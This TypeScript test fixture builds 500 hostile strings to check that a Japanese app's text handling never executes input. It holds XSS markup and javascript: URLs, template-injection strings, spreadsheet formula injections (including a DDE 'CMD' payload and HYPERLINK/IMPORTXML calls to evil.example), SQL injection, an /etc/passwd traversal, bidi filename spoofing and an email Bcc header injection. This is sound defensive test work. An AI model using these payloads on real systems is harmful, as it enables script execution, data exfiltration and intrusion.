import { hasForbiddenCharacters, isBlank, withoutInvisible } from '#domain/characters.ts'

/** What would run sets `window.ran`: nothing of it ever may. */
const markup = [
  '<script>window.ran=1</script>',
  '</script><script>window.ran=1</script>',
  '<img src=x onerror=window.ran=1>',
  '"><svg onload=window.ran=1>',
  "'><body onload=window.ran=1>",
  '</textarea><script>window.ran=1</script>',
  '</title><script>window.ran=1</script>',
  '--><script>window.ran=1</script>',
  ']]><script>window.ran=1</script>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  '<a href="javascript:window.ran=1">佐藤</a>',
  'javascript:window.ran=1',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>*{display:none!important}</style>',
  '<form action=//evil.example><button>送信',
  '<input autofocus onfocus=window.ran=1>',
  '<math><mtext><script>window.ran=1</script>',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '{{constructor.constructor("window.ran=1")()}}',
  '{{delivery_fee}} {{product:4}} <%=window.ran=1%> #{1}',
  '[佐藤](javascript:window.ran=1) ![](x) # 見出し **太字**',
]

/** What a spreadsheet would work out. */
const formulas = [
  "=CMD|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","佐藤")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '=IMPORTXML("http://evil.example","//a")',
  '＝1+1',
  '＠SUM(A1)',
  '%0A=1+1',
  '"=1+1',
  "'=1+1",
]

const scripts = [
  'あ'.repeat(1_000),
  'W'.repeat(1_000),
  `https://example.com/${'a'.repeat(980)}`,
  `${'長'.repeat(64)}@${'w'.repeat(63)}.example.com`,
  'ｻﾄｳ ﾊﾅｺ ｶﾞｷﾞｸﾞｹﾞｺﾞ ﾊﾟﾋﾟﾌﾟﾍﾟﾎﾟ',
  'Ｓａｔｏ　Ｈａｎａｋｏ　１２３',
  '𠮷野家 髙橋 﨑山 神 葛󠄀城 辻󠄀',
  '👨‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🇯🇵👍🏿',
  '👨‍👩‍👧‍👦'.repeat(60),
  'Z̸̡̛a̴l̷g̶o̵ ͍͎t̸e̴x̷t̸'.repeat(8),
  '﷽﷽﷽﷽﷽﷽﷽﷽',
  'سلام دنیا', // Read from the right, without any override.
  'שלום עולם (1) [2]',
  'ก็็็็็็็็็็็็็็็็็็็็',
  '　佐藤　花子　',
  '佐藤⠀花子⠀',
  '\u200b佐藤\u200b花子\u200b',
  'ㅤ佐藤ㅤ',
  'a\u00adb\u00adc\u00add'.repeat(40),
  '\u2400\u2401 ␀ \\0 %00 \\u0000',
  '\ufffd\ufffd',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-0',
  '1e309',
  '[object Object]',
  '__proto__',
  'constructor',
  "'; drop table meetups; --",
  "' or '1'='1",
  '\\',
  '"',
  "'",
  '`',
  '%s%n%d%x',
  '../../../../etc/passwd',
  'C:\\con\\con',
  '株式会社“みらい”計画―〜～−',
  '(株)ＡＢＣ&ＤＥＦ<ＧＨＩ>',
  '㍿㈱①Ⅳ㎏',
]

/** Only older rows, or another program, can hold these: the public door refuses them. */
const refusedToday = [
  '\u202e佐藤 花子\u202c',
  '\u2066\u202etxt.exe\u2069',
  '\u202a\u202b\u202d\u202e',
  '一行目\r\n二行目\r三行目\u2028四行目\u2029五行目',
  'ベル\u0007 改\u000b行 逃\u001b[31m赤',
  '\u0001\u0002\u0085\u009f',
  'タブ\tと\t=1+1',
  '\r=1+1',
  '\t=1+1',
  '\n@SUM(A1)',
  '件名\r\nBcc: evil@example.com',
]

const around: ((text: string) => string)[] = [
  (text) => text,
  (text) => `株式会社${text}`,
  (text) => `${text} 様`,
  (text) => `「${text}」`,
  (text) => text.toUpperCase(),
]

const plain = [...markup, ...formulas, ...scripts, ...refusedToday]

/** 500 texts that somebody may once have typed, in an order that is always the same. */
export const storedTexts: readonly string[] = [
  ...new Set([
    ...around.flatMap((put) => plain.map(put)),
    ...plain.flatMap((one, n) => [one + plain[(n + 7) % plain.length], `${plain[(n + 13) % plain.length]} ${one}`]),
  ]),
].slice(0, 500)

/** What the public door takes today. */
export const isTakenToday = (text: string) => !hasForbiddenCharacters(withoutInvisible(text)) && !isBlank(text)

/** As a column of so many characters holds it. */
export const cutTo = (text: string, length: number) => [...text].slice(0, length).join('')
